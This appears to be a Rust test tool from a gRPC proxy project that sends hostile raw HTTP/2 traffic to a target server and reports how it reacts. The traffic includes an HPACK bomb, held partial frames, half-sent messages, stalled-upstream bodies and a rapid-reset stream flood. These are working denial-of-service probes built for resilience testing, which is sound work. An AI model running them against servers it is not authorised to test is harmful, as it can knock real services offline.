//! Hostile HTTP/2 clients for `hack/abuse.sh`: the same raw-frame probes against any gRPC
//! server (skylift-proxy, nginx `grpc_pass`, haproxy), each holding its connections until
//! `--hold` ends so the server's memory can be read meanwhile. Prints one JSON object
//! saying what the server did.
//!
//! - `hpack-bomb`: one 64 KB header block that inserts a 4 KB field and references it
//!   about 15 000 times (about 60 MB decoded), on each of `--connections` connections;
//! - `stuck-frame`: `--connections` connections that send the preface, SETTINGS and the
//!   first 5 bytes of a frame, and stop;
//! - `half-messages`: `--streams` report streams on one connection, each announcing a
//!   4 MiB message and sending as much of `--bytes` as flow control lets through;
//! - `stalled-upstream`: `--streams` calls sending `--bytes` of body each (to a server
//!   whose upstream does not read);
//! - `rapid-reset`: up to `--count` streams opened and reset at once on one connection,
//!   until the server sends GOAWAY or closes.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use clap::{Parser, ValueEnum};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use skylift_testkit::h2raw::{PREFACE, block, frame, integer, take_frame};

#[derive(Clone, Copy, Debug, ValueEnum)]
enum Probe {
    HpackBomb,
    StuckFrame,
    HalfMessages,
    StalledUpstream,
    RapidReset,
}

#[derive(Parser)]
struct Args {
    #[arg(long)]
    target: SocketAddr,
    #[arg(long, value_enum)]
    probe: Probe,
    #[arg(long, default_value_t = 1)]
    connections: usize,
    #[arg(long, default_value_t = 64)]
    streams: u32,
    /// Body bytes per stream.
    #[arg(long, default_value_t = 1 << 20)]
    bytes: usize,
    #[arg(long, default_value_t = 20_000)]
    count: u32,
    /// How long connections are held open after the probe was sent.
    #[arg(long, default_value = "5s", value_parser = skylift_api::duration::parse)]
    hold: Duration,
    /// The request path.
    #[arg(
        long,
        default_value = "/skywalking.v3.TraceSegmentReportService/collect"
    )]
    path: String,
}

fn request(path: &str) -> Vec<u8> {
    block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "proxy"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ])
}

/// Preface, SETTINGS (a large window, so the server's answers are never held back), and
/// a connection WINDOW_UPDATE.
fn hello() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    out.extend(frame(0x4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]));
    out.extend(frame(0x8, 0, 0, &0x7fff_0000u32.to_be_bytes()));
    out
}

/// The header block of the HPACK bomb, in a HEADERS frame and CONTINUATIONs.
fn bomb(path: &str, stream: u32) -> Vec<u8> {
    let mut block = request(path);
    block.push(0x40);
    integer(5, 7, 0, &mut block);
    block.extend_from_slice(b"x-big");
    integer(4000, 7, 0, &mut block);
    block.extend(std::iter::repeat_n(b'v', 4000));
    while block.len() < 65_000 {
        block.push(0x80 | 62);
    }
    let mut out = Vec::new();
    let mut chunks = block.chunks(16_384).peekable();
    out.extend(frame(0x1, 0, stream, chunks.next().unwrap()));
    while let Some(chunk) = chunks.next() {
        let flags = if chunks.peek().is_none() { 0x4 } else { 0 };
        out.extend(frame(0x9, flags, stream, chunk));
    }
    out
}

/// What the server sent on a connection, read as it arrives.
#[derive(Default, serde::Serialize)]
struct Seen {
    goaway: Option<u32>,
    resets: u32,
    responses: u32,
    /// :status of the first response, when a literal or a common indexed one.
    status: Option<String>,
    window_updates: u64,
    closed: bool,
}

impl Seen {
    /// Notes what the whole frames in `buffer` say, and takes them out.
    fn take(&mut self, buffer: &mut Vec<u8>) {
        while let Some(frame) = take_frame(buffer) {
            self.note(frame.kind, &frame.payload);
        }
    }

    fn note(&mut self, kind: u8, payload: &[u8]) {
        match kind {
            0x1 => {
                self.responses += 1;
                if self.status.is_none() {
                    self.status = match payload.first() {
                        Some(0x88) => Some("200".into()),
                        Some(0x8d) => Some("404".into()),
                        Some(0x08) if payload.len() >= 5 => {
                            Some(String::from_utf8_lossy(&payload[2..5]).into_owned())
                        }
                        _ => Some(format!("{:02x?}", &payload[..payload.len().min(4)])),
                    };
                }
            }
            0x3 => self.resets += 1,
            0x7 if payload.len() >= 8 => {
                self.goaway = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
            }
            0x8 if payload.len() == 4 => {
                self.window_updates +=
                    u64::from(u32::from_be_bytes(payload.try_into().unwrap()) & 0x7fff_ffff);
            }
            _ => {}
        }
    }
}

/// Reads what the server sends until `until` (or it closes).
async fn watch(conn: &mut TcpStream, seen: &mut Seen, until: Instant) {
    let mut buffer = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    while let Some(left) = until.checked_duration_since(Instant::now()) {
        match tokio::time::timeout(left, conn.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => {
                buffer.extend_from_slice(&chunk[..n]);
                seen.take(&mut buffer);
            }
            Ok(_) => {
                seen.closed = true;
                return;
            }
            Err(_) => return,
        }
    }
}

/// Writes `bytes` as far as the server takes them within `until`; the bytes written.
async fn write_some(conn: &mut TcpStream, bytes: &[u8], until: Instant) -> usize {
    let mut written = 0;
    while written < bytes.len() {
        let Some(left) = until.checked_duration_since(Instant::now()) else {
            break;
        };
        match tokio::time::timeout(left, conn.write(&bytes[written..])).await {
            Ok(Ok(n)) if n > 0 => written += n,
            _ => break,
        }
    }
    written
}

/// Many connections, each sent `first` and then held (and read) until the end.
async fn hold_many(args: &Args, first: impl Fn(usize) -> Vec<u8>) -> serde_json::Value {
    let until = Instant::now() + args.hold;
    let mut tasks = Vec::new();
    for i in 0..args.connections {
        let bytes = first(i);
        let target = args.target;
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            let Ok(mut conn) = TcpStream::connect(target).await else {
                seen.closed = true;
                return seen;
            };
            write_some(&mut conn, &bytes, until).await;
            watch(&mut conn, &mut seen, until).await;
            seen
        }));
        // Not all at once: a listen backlog is not what is measured.
        if i % 64 == 63 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    let mut all = Vec::new();
    for task in tasks {
        all.push(task.await.unwrap());
    }
    let count = |f: &dyn Fn(&Seen) -> bool| all.iter().filter(|s| f(s)).count();
    serde_json::json!({
        "connections": all.len(),
        "goaway": count(&|s| s.goaway.is_some()),
        "goaway_codes": all.iter().filter_map(|s| s.goaway).collect::<std::collections::BTreeSet<_>>(),
        "closed": count(&|s| s.closed),
        "statuses": all.iter().filter_map(|s| s.status.clone()).collect::<std::collections::BTreeSet<_>>(),
        "resets": all.iter().map(|s| s.resets).sum::<u32>(),
    })
}

/// The server's flow-control windows, as a compliant client keeps them: the connection's
/// and each stream's, from its SETTINGS and WINDOW_UPDATEs.
struct Windows {
    connection: i64,
    initial: i64,
    streams: std::collections::HashMap<u32, i64>,
    closed: bool,
}

impl Windows {
    /// Reads the frames in `buffer` that change the windows, and notes the rest.
    fn take(&mut self, buffer: &mut Vec<u8>, seen: &mut Seen) {
        while let Some(frame) = take_frame(buffer) {
            match frame.kind {
                0x4 if frame.flags & 1 == 0 => {
                    for setting in frame.payload.chunks_exact(6) {
                        if u16::from_be_bytes([setting[0], setting[1]]) == 4 {
                            let value =
                                i64::from(u32::from_be_bytes(setting[2..6].try_into().unwrap()));
                            let delta = value - self.initial;
                            self.initial = value;
                            for window in self.streams.values_mut() {
                                *window += delta;
                            }
                        }
                    }
                }
                0x8 if frame.payload.len() == 4 => {
                    let increment = i64::from(
                        u32::from_be_bytes(frame.payload[..4].try_into().unwrap()) & 0x7fff_ffff,
                    );
                    if frame.stream == 0 {
                        self.connection += increment;
                    } else if let Some(window) = self.streams.get_mut(&frame.stream) {
                        *window += increment;
                    }
                }
                _ => {}
            }
            seen.note(frame.kind, &frame.payload);
        }
    }
}

/// Streams on one connection, each sent its HEADERS and as much of `body` as the server's
/// flow-control windows let through (a compliant client that never finishes); held until
/// the end.
async fn streams_with_bodies(args: &Args, body: Vec<u8>) -> serde_json::Value {
    use std::sync::{Arc, Mutex};
    let until = Instant::now() + args.hold;
    let mut conn = TcpStream::connect(args.target).await.unwrap();
    let mut out = hello();
    let block = request(&args.path);
    for i in 0..args.streams {
        out.extend(frame(0x1, 0x4, 2 * i + 1, &block));
    }
    conn.write_all(&out).await.unwrap();
    let windows = Arc::new(Mutex::new(Windows {
        connection: 65_535,
        initial: 65_535,
        streams: (0..args.streams).map(|i| (2 * i + 1, 65_535)).collect(),
        closed: false,
    }));
    let changed = Arc::new(tokio::sync::Notify::new());
    let (mut reader, mut writer) = conn.into_split();
    let reading = {
        let (windows, changed) = (windows.clone(), changed.clone());
        tokio::spawn(async move {
            let mut seen = Seen::default();
            let mut buffer = Vec::new();
            let mut chunk = vec![0u8; 64 * 1024];
            while let Some(left) = until.checked_duration_since(Instant::now()) {
                match tokio::time::timeout(left, reader.read(&mut chunk)).await {
                    Ok(Ok(n)) if n > 0 => {
                        buffer.extend_from_slice(&chunk[..n]);
                        windows.lock().unwrap().take(&mut buffer, &mut seen);
                        changed.notify_one();
                    }
                    Ok(_) => {
                        seen.closed = true;
                        break;
                    }
                    Err(_) => break,
                }
            }
            windows.lock().unwrap().closed = true;
            changed.notify_one();
            seen
        })
    };
    // DATA round-robin across streams, 16 KB at most per frame, within the windows.
    let mut offsets = vec![0usize; args.streams as usize];
    let mut sent = 0usize;
    'all: loop {
        let mut progressed = false;
        for i in 0..args.streams {
            let stream = 2 * i + 1;
            let offset = offsets[i as usize];
            if offset >= body.len() {
                continue;
            }
            let n = {
                let mut w = windows.lock().unwrap();
                if w.closed {
                    break 'all;
                }
                let allowed = w.connection.min(w.streams[&stream]).clamp(0, 16_384) as usize;
                let n = allowed.min(body.len() - offset);
                w.connection -= n as i64;
                *w.streams.get_mut(&stream).unwrap() -= n as i64;
                n
            };
            if n == 0 {
                continue;
            }
            let bytes = frame(0x0, 0, stream, &body[offset..offset + n]);
            let Some(left) = until.checked_duration_since(Instant::now()) else {
                break 'all;
            };
            match tokio::time::timeout(left, writer.write_all(&bytes)).await {
                Ok(Ok(())) => {
                    offsets[i as usize] += n;
                    sent += n;
                    progressed = true;
                }
                _ => break 'all,
            }
        }
        if offsets.iter().all(|o| *o >= body.len()) {
            break;
        }
        if !progressed {
            let Some(left) = until.checked_duration_since(Instant::now()) else {
                break;
            };
            let _ = tokio::time::timeout(left, changed.notified()).await;
        }
    }
    let seen = reading.await.unwrap();
    drop(writer);
    serde_json::json!({
        "streams": args.streams,
        "body_bytes_sent": sent,
        "window_given_back": seen.window_updates,
        "resets": seen.resets,
        "goaway": seen.goaway,
        "closed": seen.closed,
    })
}

async fn rapid_reset(args: &Args) -> serde_json::Value {
    let mut conn = TcpStream::connect(args.target).await.unwrap();
    conn.write_all(&hello()).await.unwrap();
    let block = request(&args.path);
    let (mut reader, mut writer) = conn.into_split();
    let started = Instant::now();
    let count = args.count;
    let writing = tokio::spawn(async move {
        let mut sent = 0u32;
        let mut batch = Vec::new();
        for i in 0..count {
            let stream = 2 * i + 1;
            batch.extend(frame(0x1, 0x4, stream, &block));
            batch.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
            if batch.len() > 16_384 || i + 1 == count {
                if writer.write_all(&batch).await.is_err() {
                    break;
                }
                sent = i + 1;
                batch.clear();
            }
        }
        sent
    });
    let mut seen = Seen::default();
    let mut buffer = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    let mut goaway_after = None;
    loop {
        match tokio::time::timeout(Duration::from_secs(5), reader.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => {
                buffer.extend_from_slice(&chunk[..n]);
                seen.take(&mut buffer);
                if seen.goaway.is_some() && goaway_after.is_none() {
                    goaway_after = Some(started.elapsed());
                }
            }
            Ok(_) => {
                seen.closed = true;
                break;
            }
            Err(_) => break,
        }
    }
    let sent = writing.await.unwrap();
    serde_json::json!({
        "resets_sent": sent,
        "goaway": seen.goaway,
        "goaway_after_ms": goaway_after.map(|d| d.as_secs_f64() * 1000.0),
        "closed_after_ms": started.elapsed().as_secs_f64() * 1000.0 - if seen.closed { 0.0 } else { 5000.0 },
        "server_resets": seen.resets,
        "responses": seen.responses,
    })
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    let report = match args.probe {
        Probe::HpackBomb => {
            hold_many(&args, |_| {
                let mut out = hello();
                out.extend(bomb(&args.path, 1));
                out.extend(frame(0x0, 0x1, 1, &[0, 0, 0, 0, 0]));
                out
            })
            .await
        }
        Probe::StuckFrame => {
            hold_many(&args, |_| {
                let mut out = hello();
                out.extend_from_slice(&[0, 0x40, 0, 0x0, 0]);
                out
            })
            .await
        }
        Probe::HalfMessages => {
            // A gRPC message header announcing 4 MiB, then its first bytes.
            let mut body = vec![0u8];
            body.extend_from_slice(&(4u32 << 20).to_be_bytes());
            body.resize(args.bytes, 0x2a);
            streams_with_bodies(&args, body).await
        }
        Probe::StalledUpstream => streams_with_bodies(&args, vec![0x2a; args.bytes]).await,
        Probe::RapidReset => rapid_reset(&args).await,
    };
    println!("{report}");
}
